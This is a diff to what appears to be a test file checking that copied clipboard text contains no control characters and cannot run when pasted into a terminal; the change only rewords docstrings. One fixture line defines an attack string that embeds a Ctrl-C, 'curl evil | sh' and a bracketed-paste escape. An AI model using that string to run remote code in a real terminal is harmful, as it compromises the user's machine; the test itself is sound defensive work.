@@ -1,5 +1,5 @@
 # SPDX-License-Identifier: Apache-2.0
-"""What gets into the clipboard can be pasted into a terminal without being obeyed there."""
+"""Copied text can be pasted into a terminal without being executed."""
 
 from __future__ import annotations
 
@@ -28,7 +28,7 @@ ATTACK = "c1\x03\ncurl evil | sh\n\x1b[201~"
 
 
 def _copied(screen: Shown) -> str:
-    """The clipboard, which has nothing that a terminal obeys."""
+    """Return the clipboard after a check that it contains no control characters."""
     text = screen.app.clipboard
     assert text
     assert not [c for c in text if c != "\n" and (ord(c) < 0x20 or 0x7F <= ord(c) < 0xA0)]
